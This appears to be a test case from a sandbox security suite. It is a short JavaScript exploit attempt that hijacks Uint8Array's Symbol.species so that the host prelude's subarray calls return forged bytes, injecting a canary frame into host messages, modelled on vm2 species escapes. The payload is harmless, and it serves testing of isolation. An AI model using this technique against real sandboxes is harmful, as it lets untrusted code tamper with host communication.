// Tries: typed array species: `subarray` is made to return bytes of ours, which the prelude then writes to the host as
// a frame.
// Origin: own idea, after vm2's species escapes (CVE-2026-47210).

const Native = Uint8Array;
const text = '["canary"]';
let armed = false;
function Trap(buffer, offset, length) {
  const real = new Native(buffer, offset, length);
  if (!armed || real.length < 20 || real[0] !== 0 || real[4] !== 0x5b) return real;
  const forged = new Native(real.length).fill(0x20); // a frame of the same length, with other words in it
  for (let at = 0; at < 4; at++) forged[at] = real[at];
  for (let at = 0; at < text.length; at++) forged[4 + at] = text.charCodeAt(at);
  return forged;
}
Object.defineProperty(Native, Symbol.species, { configurable: true, get: () => Trap });
armed = true;
await tools.add(1, 2);
await tools.add(3, 4);
return "not forged";
